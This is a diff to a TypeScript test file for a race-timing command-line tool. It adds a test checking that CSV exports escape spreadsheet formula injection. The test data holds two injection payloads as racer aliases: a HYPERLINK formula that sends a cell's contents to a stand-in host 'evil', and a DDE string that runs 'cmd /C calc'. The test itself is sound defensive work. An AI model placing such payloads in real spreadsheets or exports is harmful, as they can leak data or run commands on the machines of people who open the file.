@@ -43,7 +43,7 @@ const elsewhere = () => ['--data', mkdtempSync(join(tmpdir(), 'pitwall-elsewhere
 it('lists and shows', async () => {
   expect(await run('list', ...here())).toBe('friday  open  Friday night\n');
   expect(JSON.parse(await run('list', '--json', ...here()))).toMatchObject({ races: [{ race }] });
-  expect(await run('show', race, ...here())).toContain('1  anna  9.500 s');
+  expect(await run('show', race, ...here())).toContain('1  anna  9.500');
   expect(JSON.parse(await run('show', race, '--json', ...here()))).toEqual(await world.state());
 });
 
@@ -88,6 +88,16 @@ it('exports laps as CSV', async () => {
   expect(lines).toHaveLength(4);
   expect(lines[0]?.split(',')).toHaveLength(lines[1]?.split(',').length as number);
   expect(lines[2]).toContain(',anna,anna,qualifying,confirmed,2,crossing,true,9500000,9500000,0,100,');
+});
+
+it.each([
+  ['=HYPERLINK("http://evil/?"&A1,"click")', `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`],
+  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+])('an alias that a spreadsheet would run is text in the export of laps: %s', async (alias, cell) => {
+  const entry = { racer: 'anna', alias, car: null, models: [] };
+  await world.give({ type: 'change-entry', entry } as never);
+  const csv = await run('export', race, '--format', 'csv', ...here());
+  expect(csv).toContain(`,anna,${cell},qualifying,`);
 });
 
 it('signs a result sheet that belongs to this log and no other', async () => {
